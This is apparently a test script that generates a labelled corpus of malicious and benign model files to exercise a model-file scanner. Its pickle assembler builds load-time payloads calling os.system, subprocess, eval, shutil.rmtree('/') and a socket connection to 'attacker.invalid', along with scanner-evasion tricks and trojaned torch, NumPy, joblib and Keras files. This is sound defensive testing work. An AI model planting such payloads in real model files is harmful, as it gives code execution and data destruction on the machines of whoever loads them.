"""Write a corpus of malicious and benign model files for the `models` scanner.

    python tests/gen_model_corpus.py OUT_DIR [--no-keras]

Malicious files are assembled opcode by opcode (or written by libraries that only
serialize): nothing here ever loads, unpickles or runs a file it wrote. Layout:
OUT_DIR/malicious/<name>, OUT_DIR/benign/<name>, OUT_DIR/manifest.json ({name: label}).
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

COMMAND = "echo corpus-payload-ran > /dev/null"


# ---------------------------------------------------------------- a tiny pickle assembler


def _unicode(text: str, protocol: int) -> bytes:
    raw = text.encode()
    if protocol >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE
    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE


def _string0(text: str) -> bytes:
    return b"S'" + text.encode() + b"'\n"  # protocol 0 STRING


def _proto(protocol: int) -> bytes:
    return b"\x80" + bytes([protocol]) if protocol >= 2 else b""


def _global(module: str, name: str, protocol: int, stack_global: bool) -> bytes:
    if stack_global and protocol >= 4:
        return _unicode(module, protocol) + _unicode(name, protocol) + b"\x93"  # STACK_GLOBAL
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"  # GLOBAL


def _arg(text: str, protocol: int) -> bytes:
    return _string0(text) if protocol == 0 else _unicode(text, max(protocol, 2))


def call(module: str, name: str, arg: str, protocol: int = 2, stack_global: bool = False) -> bytes:
    """func(arg) on load: GLOBAL/STACK_GLOBAL + args + REDUCE."""
    body = _global(module, name, protocol, stack_global)
    if protocol == 0:
        body += b"(" + _arg(arg, 0) + b"tR"
    else:
        body += _arg(arg, protocol) + b"\x85R"  # TUPLE1 REDUCE
    return _proto(protocol) + body + b"."


def call_then_data(module: str, name: str, arg: str, protocol: int = 2) -> bytes:
    """func(arg), its result dropped, then a harmless-looking dict (how a trojan hides)."""
    payload = call(module, name, arg, protocol)[:-1] + b"0"  # POP instead of STOP
    return payload + b"}" + _arg("vocab", protocol) + b"K\x01s."  # EMPTY_DICT key BININT1 SETITEM STOP


def inst(module: str, name: str, arg: str) -> bytes:
    """Protocol 0 INST: MARK args INST module name."""
    return b"(" + _string0(arg) + b"i" + module.encode() + b"\n" + name.encode() + b"\n."


def obj(module: str, name: str, arg: str) -> bytes:
    """Protocol 1 OBJ: MARK class args OBJ."""
    return b"(" + _global(module, name, 1, False) + _arg(arg, 1) + b"o."


def memo_stack_global(module: str, name: str, arg: str) -> bytes:
    """STACK_GLOBAL whose operands come from the memo, as evasive pickles do."""
    body = _unicode(module, 4) + b"\x94" + _unicode(name, 4) + b"\x94" + b"0" + b"0"  # MEMOIZE, POP both
    body += b"h\x00h\x01\x93" + _arg(arg, 4) + b"\x85R."  # BINGET 0, BINGET 1, STACK_GLOBAL
    return _proto(4) + body


def getattr_trick(module: str, attribute: str, arg: str, protocol: int = 2) -> bytes:
    """getattr(importlib.import_module(module), attribute)(arg)."""
    imported = _global("importlib", "import_module", protocol, False) + _arg(module, protocol) + b"\x85R"
    getter = _global("builtins", "getattr", protocol, False) + imported + _arg(attribute, protocol) + b"\x86R"
    return _proto(protocol) + getter + _arg(arg, protocol) + b"\x85R."


def dynamic_module(arg: str) -> bytes:
    """STACK_GLOBAL whose module name is computed by a call (str('os')): an import no scanner can read."""
    module = _global("builtins", "str", 4, True) + _unicode("os", 4) + b"\x85R"
    return _proto(4) + module + _unicode("system", 4) + b"\x93" + _unicode(arg, 4) + b"\x85R."


def nested_pickle_loads(inner: bytes) -> bytes:
    """pickle.loads(<malicious pickle bytes>): a payload inside a payload."""
    return _proto(3) + b"cpickle\nloads\n" + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R."


# ---------------------------------------------------------------- containers (written, never read back)


def torch_zip(data_pkl: bytes, prefix: str = "archive") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(f"{prefix}/data.pkl", data_pkl)
        archive.writestr(f"{prefix}/byteorder", "little")
        archive.writestr(f"{prefix}/data/0", b"\x00" * 16)
        archive.writestr(f"{prefix}/version", "3\n")
    return buffer.getvalue()


def npy_object(pickle_bytes: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle_bytes


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def keras_archive(config: dict) -> bytes:
    return zip_of(
        {
            "metadata.json": json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01"}).encode(),
            "config.json": json.dumps(config).encode(),
        }
    )


def _lambda_layer_config() -> dict:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "exfil",
            "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHwAUwCpAU6pAKkB2gF4cwEAAAAg"}},
        },
        "registered_name": None,
    }


def keras_config_with(layer: dict) -> dict:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [{"module": "keras.layers", "class_name": "InputLayer",
                                                      "config": {"batch_shape": [None, 4]}}, layer]},
    }


def h5_with_config(path: Path, config: dict) -> None:
    import h5py  # writing an attribute only

    with h5py.File(path, "w") as handle:
        handle.attrs["model_config"] = json.dumps(config)
        handle.attrs["backend"] = "torch"
        handle.create_group("model_weights")


def joblib_with_payload(path: Path, compress: int = 0) -> None:
    """joblib.dump of an array followed by an object whose reduce is posix.system (serialized, not run)."""
    import joblib
    import numpy as np

    class Payload:
        def __reduce__(self):
            return (os.system, (COMMAND,))

    joblib.dump({"weights": np.arange(32, dtype="float64"), "hook": Payload()}, path, compress=compress)


def npy_object_via_numpy(path: Path) -> None:
    import numpy as np

    class Payload:
        def __reduce__(self):
            return (os.system, (COMMAND,))

    array = np.empty(2, dtype=object)
    array[0], array[1] = "ok", Payload()
    np.save(path, array, allow_pickle=True)


# ---------------------------------------------------------------- the corpus


def malicious_files(out: Path, keras: bool) -> dict[str, Callable[[Path], None] | bytes]:
    files: dict[str, Callable[[Path], None] | bytes] = {}
    for protocol in range(6):
        files[f"os_system_p{protocol}.pkl"] = call("os", "system", COMMAND, protocol)
        files[f"posix_system_p{protocol}.pickle"] = call("posix", "system", COMMAND, protocol)
    files["nt_system.pkl"] = call("nt", "system", COMMAND, 2)
    for protocol in (4, 5):
        files[f"os_system_stack_global_p{protocol}.pkl"] = call("os", "system", COMMAND, protocol, stack_global=True)
        files[f"builtins_exec_stack_global_p{protocol}.pkl"] = call("builtins", "exec", "import os", protocol, True)
    files["subprocess_popen.pkl"] = call("subprocess", "Popen", "id", 2)
    files["subprocess_check_output.pkl"] = call("subprocess", "check_output", "id", 4, stack_global=True)
    files["builtins_eval.pkl"] = call("builtins", "eval", "__import__('os').system('id')", 2)
    files["builtins_exec.pkl"] = call("builtins", "exec", "import os", 3)
    files["py2_builtin_eval.pkl"] = call("__builtin__", "eval", "1", 0)
    files["builtins_compile_p1.pkl"] = call("builtins", "compile", "1", 1)
    files["getattr_import_module.pkl"] = getattr_trick("os", "system", COMMAND, 2)
    files["getattr_import_module_p4.pkl"] = getattr_trick("subprocess", "getoutput", "id", 4)
    files["operator_attrgetter.pkl"] = call("operator", "attrgetter", "system", 2)
    files["runpy_run_path.pkl"] = call("runpy", "run_path", "/tmp/x.py", 2)
    files["runpy_run_module.pkl"] = call("runpy", "_run_module_as_main", "http.server", 4, stack_global=True)
    files["importlib_import_module.pkl"] = call("importlib", "import_module", "os", 3)
    files["webbrowser_open.pkl"] = call("webbrowser", "open", "http://attacker.invalid", 2)
    files["socket_create_connection.pkl"] = call("socket", "create_connection", "attacker.invalid", 4, True)
    files["inst_os_system.pkl"] = inst("os", "system", COMMAND)
    files["obj_subprocess_popen.pkl"] = obj("subprocess", "Popen", "id")
    files["memo_stack_global.pkl"] = memo_stack_global("os", "system", COMMAND)
    files["dynamic_module_name.pkl"] = dynamic_module(COMMAND)
    files["nested_pickle_loads.pkl"] = nested_pickle_loads(call("os", "system", COMMAND, 2))
    files["numpy_testing_runstring.pkl"] = call("numpy.testing._private.utils", "runstring", "import os", 2)
    files["torch_load_from_bytes.pkl"] = call("torch.storage", "_load_from_bytes", "x", 2)
    files["shutil_rmtree.pkl"] = call("shutil", "rmtree", "/", 4, stack_global=True)
    files["trojan_then_dict.pkl"] = call_then_data("os", "system", COMMAND, 2)
    files["no_extension_payload"] = call("os", "system", COMMAND, 4, stack_global=True)
    files["weights.bin"] = call("posix", "system", COMMAND, 2)
    files["tokenizer.pickle"] = call_then_data("os", "system", COMMAND, 2)
    files["model.pt"] = torch_zip(call("posix", "system", COMMAND, 2))
    files["model_stack_global.pth"] = torch_zip(call("os", "system", COMMAND, 4, stack_global=True), "model")
    files["model_legacy.pt"] = call("os", "system", COMMAND, 2) + b"\x00" * 64
    files["nested.zip"] = zip_of({"inner.pt": torch_zip(call("subprocess", "Popen", "id", 2))})
    files["object_array.npy"] = npy_object(call("os", "system", COMMAND, 3))
    files["object_array_numpy.npy"] = npy_object_via_numpy
    files["arrays.npz"] = zip_of({"a.npy": npy_object(call("builtins", "eval", "1", 2))})
    files["payload.joblib"] = joblib_with_payload
    files["payload_compressed.joblib"] = lambda path: joblib_with_payload(path, compress=3)
    files["lambda.keras"] = keras_archive(keras_config_with(_lambda_layer_config()))
    files["custom_os_function.keras"] = keras_archive(
        keras_config_with({"module": "os", "class_name": "function", "config": "system", "registered_name": "function"})
    )
    files["lambda.h5"] = lambda path: h5_with_config(path, keras_config_with(_lambda_layer_config()))
    if keras:
        files["keras_lambda_real.keras"] = lambda path: _real_keras(path, with_lambda=True)
        files["keras_lambda_real.h5"] = lambda path: _real_keras(path, with_lambda=True)
    return files


def benign_files(out: Path, keras: bool) -> dict[str, Callable[[Path], None] | bytes]:
    files: dict[str, Callable[[Path], None] | bytes] = {}
    plain = {"vocab": {"hello": 1, "world": 2}, "labels": ["billing", "shipping"], "size": 2.5, "ok": True}
    for protocol in range(6):
        files[f"plain_dict_p{protocol}.pkl"] = pickle.dumps(plain, protocol=protocol)
    files["ordered_dict.pkl"] = _ordered_dict_pickle
    files["tokenizer_word_index.pickle"] = pickle.dumps({"word_index": {f"w{i}": i for i in range(50)}}, protocol=4)
    files["state_dict.pt"] = _torch_state_dict
    files["state_dict_legacy.pt"] = lambda path: _torch_state_dict(path, legacy=True)
    files["tensor.pth"] = _torch_tensor
    files["array.npy"] = _numpy_array
    files["arrays.npz"] = _numpy_npz
    files["array_pickled.pkl"] = _numpy_pickled
    files["logistic.joblib"] = lambda path: _sklearn(path, "logistic", 0)
    files["tree.joblib"] = lambda path: _sklearn(path, "tree", 0)
    files["forest_compressed.joblib"] = lambda path: _sklearn(path, "forest", 3)
    files["pipeline.pkl"] = lambda path: _sklearn(path, "pipeline", -1)
    files["weights.safetensors"] = _safetensors
    files["tokenizer.json"] = json.dumps({"config": {"num_words": 100}, "word_index": {"a": 1}}).encode()
    files["clean_config.keras"] = keras_archive(
        keras_config_with({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2}})
    )
    files["clean_config.h5"] = lambda path: h5_with_config(
        path, keras_config_with({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d"}})
    )
    if keras:
        files["keras_real.keras"] = lambda path: _real_keras(path, with_lambda=False)
        files["keras_real.h5"] = lambda path: _real_keras(path, with_lambda=False)
    return files


def _ordered_dict_pickle(path: Path) -> None:
    from collections import OrderedDict

    path.write_bytes(pickle.dumps(OrderedDict(a=1, b=[1, 2]), protocol=2))


def _torch_state_dict(path: Path, legacy: bool = False) -> None:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    torch.save(model.state_dict(), path, _use_new_zipfile_serialization=not legacy)


def _torch_tensor(path: Path) -> None:
    import torch

    torch.save(torch.arange(12, dtype=torch.float32).reshape(3, 4), path)


def _numpy_array(path: Path) -> None:
    import numpy as np

    np.save(path, np.linspace(0, 1, 50).reshape(5, 10))


def _numpy_npz(path: Path) -> None:
    import numpy as np

    with path.open("wb") as handle:
        np.savez_compressed(handle, a=np.arange(10), b=np.eye(3))


def _numpy_pickled(path: Path) -> None:
    import numpy as np

    path.write_bytes(pickle.dumps({"w": np.ones((2, 2)), "i": np.int64(3)}, protocol=5))


def _sklearn(path: Path, kind: str, compress: int) -> None:
    import joblib
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    features = rng.random((40, 4))
    labels = (features[:, 0] > 0.5).astype(int)
    model = {
        "logistic": lambda: LogisticRegression(),
        "tree": lambda: DecisionTreeClassifier(random_state=0),
        "forest": lambda: RandomForestClassifier(n_estimators=3, random_state=0),
        "pipeline": lambda: make_pipeline(StandardScaler(), LogisticRegression()),
    }[kind]().fit(features, labels)
    if compress < 0:
        path.write_bytes(pickle.dumps(model, protocol=4))
    else:
        joblib.dump(model, path, compress=compress)


def _safetensors(path: Path) -> None:
    data = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
    header = json.dumps({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, len(data)]}}).encode()
    path.write_bytes(struct.pack("<Q", len(header)) + header + data)


def _real_keras(path: Path, with_lambda: bool) -> None:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    layers = [keras.Input(shape=(4,)), keras.layers.Dense(3, activation="relu")]
    if with_lambda:
        layers.append(keras.layers.Lambda(lambda x: x * 2))
    layers.append(keras.layers.Dense(2, activation="softmax"))
    keras.Sequential(layers).save(path)


def generate(out: Path, keras: bool = True) -> dict[str, str]:
    """Write the corpus; returns {relative path: "malicious"|"benign"}."""
    manifest: dict[str, str] = {}
    for label, files in (("malicious", malicious_files(out, keras)), ("benign", benign_files(out, keras))):
        folder = out / label
        folder.mkdir(parents=True, exist_ok=True)
        for name, content in files.items():
            path = folder / name
            if callable(content):
                content(path)
            else:
                path.write_bytes(content)
            manifest[f"{label}/{name}"] = label
    (out / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    return manifest


if __name__ == "__main__":
    if len(sys.argv) < 2:
        sys.exit("usage: gen_model_corpus.py OUT_DIR [--no-keras]")
    written = generate(Path(sys.argv[1]), keras="--no-keras" not in sys.argv)
    counts = {label: sum(1 for v in written.values() if v == label) for label in ("malicious", "benign")}
    print(f"{counts['malicious']} malicious, {counts['benign']} benign files in {sys.argv[1]}")
